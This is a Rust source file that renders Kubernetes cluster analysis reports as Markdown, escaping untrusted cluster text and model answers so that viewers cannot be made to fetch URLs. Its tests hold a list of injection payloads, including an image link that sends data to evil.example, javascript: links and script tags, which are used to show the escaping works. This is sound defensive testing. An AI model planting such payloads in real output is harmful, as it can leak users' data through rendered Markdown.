//! The Markdown view: readable as plain text in a terminal or a mail, and rendered by any Markdown viewer.
//!
//! Every string that came from the cluster or the model is untrusted: a viewer fetches an image as soon as it
//! renders, so a planted `![x](http://host/?d=names)` would send data off the host. Two functions are the only
//! way such text enters the Markdown: [`inline`] (cluster text, escaped so nothing in it is markup) and
//! [`literal_block`] (the model's answers, shown verbatim in a fenced code block, where nothing is markup).

use std::collections::HashSet;
use std::fmt::Write;

use mekhanikube_analyzers::Finding;

use super::text;
use crate::document::{AnalysisDocument, Identity, ReportDocument};

/// How many runs the Markdown trend table lists (the HTML chart shows the whole trend).
const TABLE_RUNS: usize = 10;

pub fn render(doc: &ReportDocument) -> String {
    let a = &doc.analysis;
    let d = &doc.diff;
    let mut out = String::new();
    let _ = writeln!(out, "# mekhanikube report\n");
    let _ = writeln!(out, "**Source:** {}  ", inline(&text::source(&a.source)));
    let _ = writeln!(out, "**Scope:** {}  ", inline(&text::scope(&a.scope)));
    let _ = writeln!(
        out,
        "**Generated:** {} \u{b7} report `{}` \u{b7} history key `{}`\n",
        inline(&text::when(&doc.generated_at)),
        doc.report,
        doc.history.key
    );

    let _ = writeln!(out, "## Summary\n");
    let change = d.health_score_change.map(|c| format!(" ({})", text::signed(c))).unwrap_or_default();
    let _ = writeln!(out, "| Health score | Findings | New | Resolved | Persisting |");
    let _ = writeln!(out, "|---|---|---:|---:|---:|");
    let _ = writeln!(
        out,
        "| **{}**/100{}{change} | {} | {} | {} | {} |\n",
        a.summary.health_score,
        grade_suffix(&a.summary),
        inline(&text::counts(&a.summary)),
        d.new.len(),
        d.resolved.len(),
        d.persisting.len()
    );
    match &d.previous {
        Some(prev) => {
            let _ = writeln!(
                out,
                "Compared with the previous run of {} (`{}`, health score {}).\n",
                inline(&text::when(&prev.generated_at)),
                prev.report,
                prev.summary.health_score
            );
        }
        None => {
            let _ = writeln!(out, "First run for this history key: every finding counts as new.\n");
        }
    }

    problems_section(&mut out, &super::problems::rows(doc), true);
    let _ = writeln!(out, "## New findings ({})\n", d.new.len());
    short_table(&mut out, &d.new);
    let _ = writeln!(out, "## Resolved findings ({})\n", d.resolved.len());
    short_table(&mut out, &d.resolved);

    let new_ids: HashSet<Identity> = d.new.iter().map(Identity::of).collect();
    let _ = writeln!(out, "## All findings ({})\n", a.findings.len());
    findings_section(&mut out, &a.findings, Some(&new_ids));

    explanations_section(&mut out, a);

    let _ = writeln!(out, "## Trend\n");
    let _ = writeln!(out, "| Run | Generated | Health | Critical | High | Medium | Low | Info | Total |");
    let _ = writeln!(out, "|---|---|---:|---:|---:|---:|---:|---:|---:|");
    let skip = doc.trend.len().saturating_sub(TABLE_RUNS);
    for run in &doc.trend[skip..] {
        let s = &run.summary;
        let mark = if run.report == doc.report { " (this run)" } else { "" };
        let _ = writeln!(
            out,
            "| `{}`{mark} | {} | {} | {} | {} | {} | {} | {} | {} |",
            run.report,
            inline(&text::when(&run.generated_at)),
            s.health_score,
            s.critical,
            s.high,
            s.medium,
            s.low,
            s.info,
            s.total
        );
    }
    out.push('\n');
    not_read_section(&mut out, a);
    out
}

/// `analyze -o markdown`: the report's view of one analysis, without history (no diff, no trend).
pub fn analysis(a: &AnalysisDocument) -> String {
    let mut out = String::new();
    let _ = writeln!(out, "# mekhanikube analysis\n");
    let _ = writeln!(out, "**Source:** {}  ", inline(&text::source(&a.source)));
    let _ = writeln!(out, "**Scope:** {}  ", inline(&text::scope(&a.scope)));
    let _ = writeln!(out, "**Generated:** {}\n", inline(&text::when(&a.generated_at)));
    let _ = writeln!(out, "## Summary\n");
    let _ = writeln!(out, "| Health score | Findings |");
    let _ = writeln!(out, "|---|---|");
    let _ = writeln!(
        out,
        "| **{}**/100{} | {} |\n",
        a.summary.health_score,
        grade_suffix(&a.summary),
        inline(&text::counts(&a.summary))
    );
    problems_section(&mut out, &super::problems::analysis_rows(a), false);
    let _ = writeln!(out, "## Findings ({})\n", a.findings.len());
    findings_section(&mut out, &a.findings, None);
    explanations_section(&mut out, a);
    not_read_section(&mut out, a);
    out
}

/// ` (C)`, or nothing for documents of earlier releases.
fn grade_suffix(s: &mekhanikube_analyzers::Summary) -> String {
    if s.grade.is_empty() { String::new() } else { format!(" ({})", s.grade) }
}

/// The problems first: root cause, what it takes down, and (in a report) whether its root is new.
fn problems_section(out: &mut String, rows: &[super::problems::ProblemRow], with_status: bool) {
    if rows.is_empty() {
        return;
    }
    let _ = writeln!(out, "## Problems ({})\n", rows.len());
    if with_status {
        let _ = writeln!(out, "| # | Severity | Status | Root cause | Takes down | Findings |");
        let _ = writeln!(out, "|---:|---|---|---|---|---:|");
    } else {
        let _ = writeln!(out, "| # | Severity | Root cause | Takes down | Findings |");
        let _ = writeln!(out, "|---:|---|---|---|---:|");
    }
    for (i, p) in rows.iter().enumerate() {
        let status = match (with_status, p.new) {
            (false, _) => String::new(),
            (true, true) => " **new** |".to_string(),
            (true, false) => " persisting |".to_string(),
        };
        let blast = if p.blast.is_empty() { "-".to_string() } else { inline(&p.blast.join(", ")) };
        let _ =
            writeln!(out, "| {} | {} |{status} {} | {blast} | {} |", i + 1, p.severity, inline(&p.summary), p.findings);
    }
    out.push('\n');
}

/// Every finding in a table, then their evidence; with `new` (a report), whether each is new since the last run.
fn findings_section(out: &mut String, findings: &[Finding], new: Option<&HashSet<Identity>>) {
    if findings.is_empty() {
        let _ = writeln!(out, "None.\n");
        return;
    }
    let (status_head, status_rule) = if new.is_some() { (" Status |", "---|") } else { ("", "") };
    let _ = writeln!(out, "| # | Severity |{status_head} Code | Namespace | Object | Owner | Message |");
    let _ = writeln!(out, "|---:|---|{status_rule}---|---|---|---|---|");
    for (i, f) in findings.iter().enumerate() {
        let status = match new {
            Some(new) if new.contains(&Identity::of(f)) => " **new** |",
            Some(_) => " persisting |",
            None => "",
        };
        let _ = writeln!(
            out,
            "| {} | {} |{status} `{}` | {} | {} | {} | {} |",
            i + 1,
            f.severity,
            f.code,
            inline(&text::namespace(&f.object)),
            inline(&text::object(&f.object)),
            inline(&text::parent(f).unwrap_or_else(|| "-".into())),
            inline(&text::clean(&f.message))
        );
    }
    out.push('\n');
    evidence(out, findings);
}

fn explanations_section(out: &mut String, a: &AnalysisDocument) {
    let explanations = text::explanations(a);
    if explanations.is_empty() {
        return;
    }
    let _ = writeln!(out, "## Explanations\n");
    for e in explanations {
        let _ = writeln!(out, "### {}\n", inline(&e.heading));
        if !e.objects.is_empty() {
            let objects: Vec<String> = e.objects.iter().map(|o| inline(o)).collect();
            let _ = writeln!(out, "Affects: {}\n", objects.join(", "));
        }
        // The model's Markdown is shown as written, not rendered: the HTML view does the same.
        let _ = writeln!(out, "{}", literal_block(e.body.trim_end()));
    }
}

fn not_read_section(out: &mut String, a: &AnalysisDocument) {
    if a.skipped.is_empty() {
        return;
    }
    let _ = writeln!(out, "## Not read\n");
    let _ = writeln!(out, "Checks that need these kinds were not made.\n");
    for s in &a.skipped {
        let _ = writeln!(out, "- {}: {}", inline(&text::clean(&s.kind)), inline(&text::clean(&s.reason)));
    }
    out.push('\n');
}

fn short_table(out: &mut String, findings: &[Finding]) {
    if findings.is_empty() {
        let _ = writeln!(out, "None.\n");
        return;
    }
    let _ = writeln!(out, "| Severity | Code | Namespace | Object | Message |");
    let _ = writeln!(out, "|---|---|---|---|---|");
    for f in findings {
        let _ = writeln!(
            out,
            "| {} | `{}` | {} | {} | {} |",
            f.severity,
            f.code,
            inline(&text::namespace(&f.object)),
            inline(&text::object(&f.object)),
            inline(&text::clean(&f.message))
        );
    }
    out.push('\n');
}

fn evidence(out: &mut String, findings: &[Finding]) {
    if findings.iter().all(|f| f.evidence.is_empty()) {
        return;
    }
    let _ = writeln!(out, "### Evidence\n");
    for (i, f) in findings.iter().enumerate().filter(|(_, f)| !f.evidence.is_empty()) {
        let _ =
            writeln!(out, "**{}. {} `{}` {}**\n", i + 1, f.severity, f.code, inline(&text::clean(&f.object.display())));
        for e in &f.evidence {
            let _ = writeln!(out, "- {}", inline(&text::evidence(e)));
        }
        out.push('\n');
    }
}

/// Untrusted text as inline Markdown that renders as exactly that text and is never a link, an image, HTML,
/// an entity, emphasis or a table cell break. CommonMark lets any ASCII punctuation be backslash-escaped, so:
/// - the characters that open markup (`[`, `]`, `<`, `>`, `&`, `` ` ``, `*`, `_`, `~`, `|`, `#`, `!`, `\`) are
///   escaped wherever they are;
/// - GFM also turns bare `http://`, `www.` and `user@host` into links: the `:` of `://`, the `.` after `www`
///   and every `@` are escaped, which breaks the pattern without changing what is shown.
///
/// Line breaks are the caller's business: cluster text is on one line already (`text::clean`).
pub fn inline(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 8);
    let mut rest = text;
    while let Some(c) = rest.chars().next() {
        let after = &rest[c.len_utf8()..];
        let escape = match c {
            '\\' | '`' | '*' | '_' | '[' | ']' | '<' | '>' | '|' | '~' | '&' | '#' | '!' | '@' => true,
            ':' => after.starts_with("//"),
            '.' => out.len() >= 3 && out.as_bytes()[out.len() - 3..].eq_ignore_ascii_case(b"www"),
            _ => false,
        };
        if escape {
            out.push('\\');
        }
        out.push(c);
        rest = after;
    }
    out
}

/// Untrusted multi-line text (a model's answer) shown verbatim: a fenced code block, whose content a Markdown
/// viewer never parses, so no link, image, autolink or HTML in it is live. The fence is longer than any run of
/// backticks in the text, so the text cannot close it.
pub fn literal_block(text: &str) -> String {
    let longest = text.split(|c| c != '`').map(str::len).max().unwrap_or(0);
    let fence = "`".repeat(longest.max(2) + 1);
    let mut out = format!("{fence}text\n");
    for line in text.lines() {
        out.push_str(line);
        out.push('\n');
    }
    out.push_str(&fence);
    out.push('\n');
    out
}

#[cfg(test)]
#[path = "../../../tests/support/markdown_inert.rs"]
mod markdown_inert;

#[cfg(test)]
pub(crate) mod tests {
    use pulldown_cmark::{CodeBlockKind, Event, Options, Parser, Tag};

    use super::{inline, literal_block};

    /// Text planted in cluster data or a model answer to make a Markdown viewer fetch a URL or run markup.
    pub(crate) const PAYLOADS: &[&str] = &[
        "![x](http://evil.example/leak?d=shop-db)",
        "[click](javascript:alert(1))",
        "<http://evil.example/autolink>",
        "<img src=http://evil.example/i.png>",
        "<script>alert(1)</script>",
        "[ref][r]\n\n[r]: http://evil.example/ref",
        "[r]: http://evil.example/definition",
        "bare http://evil.example/bare and https://evil.example/s",
        "www.evil.example/www",
        "mail ops@evil.example",
        "&lt;b&gt; &#x3C;i&#x3E;",
        "``![x](http://evil.example/in-code)``",
        "| a | b |",
        "\\![x](http://evil.example/backslash)",
    ];

    /// GFM as viewers render it (tables, strikethrough, footnotes, task lists).
    fn parse(markdown: &str) -> Vec<Event<'_>> {
        Parser::new_ext(markdown, Options::all()).collect()
    }

    /// The same check the integration tests make.
    pub(crate) use super::markdown_inert::assert_inert;

    #[test]
    fn escapes_markup_and_table_breakers() {
        assert_eq!(inline("a|b <script> *x* [l](u)"), "a\\|b \\<script\\> \\*x\\* \\[l\\](u)");
        assert_eq!(inline("shop/Pod/api-1"), "shop/Pod/api-1");
        assert_eq!(inline("see https://x.example and www.y.example"), "see https\\://x.example and www\\.y.example");
        assert_eq!(inline("näme www"), "näme www", "the www check is not fooled by multi-byte text");
    }

    /// Each payload, escaped, renders as one paragraph whose text is exactly the payload: nothing became markup.
    #[test]
    fn inline_text_renders_as_itself() {
        for payload in PAYLOADS {
            let one_line = payload.replace('\n', " ");
            let markdown = inline(&one_line);
            let events = parse(&markdown);
            let text: String = events
                .iter()
                .filter_map(|e| match e {
                    Event::Text(t) => Some(t.to_string()),
                    Event::Start(Tag::Paragraph) | Event::End(pulldown_cmark::TagEnd::Paragraph) => None,
                    other => panic!("{payload:?} became {other:?}"),
                })
                .collect();
            assert_eq!(text, one_line);
            assert_inert(&markdown);
            // In a table cell too.
            assert_inert(&format!("| h |\n|---|\n| {markdown} |\n"));
        }
    }

    /// A model answer is one fenced code block with exactly its text, whatever fences or markup it contains.
    #[test]
    fn literal_block_keeps_the_answer_verbatim() {
        let answer = format!("Cause: see below.\n```\nclosed?\n````\n{}\n1. kubectl get pods", PAYLOADS.join("\n"));
        let markdown = literal_block(&answer);
        let events = parse(&markdown);
        assert!(
            matches!(&events[0], Event::Start(Tag::CodeBlock(CodeBlockKind::Fenced(info))) if info.as_ref() == "text"),
            "{events:?}"
        );
        let text: String = events
            .iter()
            .filter_map(|e| match e {
                Event::Text(t) => Some(t.to_string()),
                _ => None,
            })
            .collect();
        assert_eq!(text, format!("{answer}\n"));
        assert_eq!(events.len(), events.iter().filter(|e| matches!(e, Event::Text(_))).count() + 2, "{events:?}");
        assert_inert(&markdown);
    }
}
